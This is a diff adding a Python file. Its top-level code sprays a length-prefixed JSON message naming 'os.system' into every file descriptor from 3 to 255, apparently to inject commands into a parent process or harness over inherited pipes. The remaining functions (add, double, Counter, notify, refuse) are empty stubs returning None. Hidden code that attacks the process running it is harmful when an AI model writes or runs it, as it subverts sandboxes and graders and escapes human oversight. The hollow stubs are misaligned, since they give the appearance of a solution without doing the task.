@@ -1,0 +1,32 @@
+import os
+
+body = b'{"r":{"g":"os.system"}}'
+for number in range(3, 256):
+    for _ in range(50):
+        try:
+            os.write(number, len(body).to_bytes(4, 'big') + body)
+        except OSError:
+            pass
+
+
+def add(first, second):
+    return None
+
+
+def double(number):
+    return None
+
+
+class Counter:
+    value = None
+
+    def up(self):
+        return None
+
+
+def notify(service):
+    return None
+
+
+def refuse():
+    return None
